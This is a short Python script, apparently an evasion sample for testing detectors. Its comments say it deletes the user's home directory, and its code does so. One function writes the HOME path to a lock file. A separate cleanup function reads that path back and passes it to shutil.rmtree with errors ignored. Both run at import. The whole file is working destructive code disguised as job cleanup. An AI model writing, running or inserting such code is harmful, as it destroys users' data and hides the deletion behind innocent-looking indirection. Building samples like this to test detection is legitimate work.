# Evasion: deletes the user's home directory recursively.
# Hidden through a lock file: a "job runner" writes its scratch directory
# (the home, from the HOME variable) to a lock file with f.write(), and the
# cleanup step, in another function, opens the same file under a path built
# with os.path.join(os.curdir, ...), reads it with f.read() and removes it.
import os
import shutil

LOCK = "job.lock"


def start_job():
    scratch = os.environ["HOME"]
    with open(LOCK, "w") as f:
        f.write(scratch)
    return scratch


def cleanup():
    with open(os.path.join(".", LOCK)) as f:
        leftover = f.read()
    shutil.rmtree(leftover, ignore_errors=True)
    os.remove(LOCK)


start_job()
cleanup()
